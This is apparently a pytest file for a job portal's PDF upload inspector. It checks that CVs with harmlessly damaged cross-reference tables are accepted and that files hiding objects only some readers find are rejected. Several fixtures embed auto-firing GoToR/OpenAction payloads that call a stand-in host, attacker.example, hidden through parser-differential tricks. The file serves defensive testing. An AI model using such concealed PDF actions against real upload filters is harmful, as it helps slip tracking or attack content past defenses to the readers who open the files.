"""Programs and mail servers move the bytes of a PDF, and every reader repairs its table: a CV like that is accepted.

Where readers search the bytes for objects, no object may exist that only some readers find.
"""

import io
import re
from collections.abc import Callable

import pytest

from portal.adapters.inspection.inspection import inspect
from portal.platform.errors import UploadReason, UploadRefused

OBJECTS = (
    b"<</Type/Catalog/Pages 2 0 R>>",
    b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
    b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>",
    b"<</Length 46>>stream\nBT /F1 24 Tf 20 200 Td (Marit Solheim) Tj ET  \nendstream",
    b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
)
FETCHES = b"<</Type/Action/S/GoToR/F(//attacker.example/x)/D[0/Fit]>>"


def written(more: bytes = b"", *, root: int = 1) -> bytes:
    """Return a PDF with a table. more: bytes after the objects, which the table does not name."""
    out, places = b"%PDF-1.4\n", []
    for number, content in enumerate(OBJECTS, 1):
        places.append(b"%010d 00000 n \n" % len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    out += more
    table = b"xref\n0 6\n0000000000 65535 f \n" + b"".join(places)
    return out + table + b"trailer\n<</Size 6/Root %d 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (root, len(out))


def shifted(content: bytes) -> bytes:
    """Move each offset of the table by one byte."""
    return re.sub(rb"(\d{10}) 00000 n", lambda place: b"%010d 00000 n" % (int(place[1]) + 1), content)


def without_place(content: bytes) -> bytes:
    return re.sub(rb"startxref\n\d+", b"startxref\n7", content)


MOVED: dict[str, Callable[[bytes], bytes]] = {
    "an empty line before it": lambda content: b"\n" + content,
    "a byte order mark before it": lambda content: b"\xef\xbb\xbf" + content,
    "line ends of Windows": lambda content: content.replace(b"\n", b"\r\n"),
    "places of another version": shifted,
    "the table is elsewhere": without_place,
    "an object does not end": lambda content: content.replace(b"endobj\n5 0", b"\n5 0"),
    "a reference to nothing": lambda content: content.replace(b"/Kids[3 0 R]", b"/Kids[3 0 R]/Info 9 0 R"),
}


def reason_of(content: bytes) -> UploadReason:
    with pytest.raises(UploadRefused) as raised:
        inspect(io.BytesIO(content), max_bytes=1_000_000)
    return raised.value.reason


@pytest.mark.parametrize("moved", MOVED.values(), ids=MOVED)
def test_a_pdf_with_a_wrong_table_is_accepted_and_read(moved: Callable[[bytes], bytes]) -> None:
    found = inspect(io.BytesIO(moved(written())), max_bytes=1_000_000, read=True)
    assert (found.extension, found.pages, found.unreadable) == ("pdf", 1, False)


@pytest.mark.parametrize("moved", [shifted, without_place])
@pytest.mark.parametrize(
    "hidden",
    [
        b"1 0 obj\n<</Type/Catalog/Pages 2 0 R/OpenAction 7 0 R>>\nendobj\n7 0 obj\n%s\nendobj\n" % FETCHES,
        b"1 1 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n",
        b"7 0 %% a comment\nobj\n%s\nendobj\n" % FETCHES,
        b"7 0" + b" " * 100 + b"obj\n%s\nendobj\n" % FETCHES,
        b"7 0 obj\n%s\nendobj\n" % FETCHES,
        b"7 0 obj\n<</Type/Catalog/Pages 2 0 R/OpenAction<</S/GoToR/F(//attacker.example/x)>>>>\nendobj\n",
        b"trailer\n<</Size 6/Root 7 0 R>>\n7 0 obj\n<</Type/Catalog/Pages 2 0 R/AA<</WC %s>>>>\nendobj\n" % FETCHES,
    ],
)
def test_objects_that_only_some_readers_find_are_rejected(moved: Callable[[bytes], bytes], hidden: bytes) -> None:
    assert reason_of(moved(written(hidden))) in (UploadReason.DAMAGED, UploadReason.ACTIVE_CONTENT)


@pytest.mark.parametrize("filler", [b" " * 900_000, b"1 " * 450_000, b" obj" * 225_000, b"1 0 obj " * 112_000])
def test_a_search_among_a_million_bytes_ends_in_time(filler: bytes) -> None:
    assert reason_of(without_place(written(filler + b"7 0 x obj\n"))) in (
        UploadReason.DAMAGED,
        UploadReason.TOO_COMPLEX,
    )
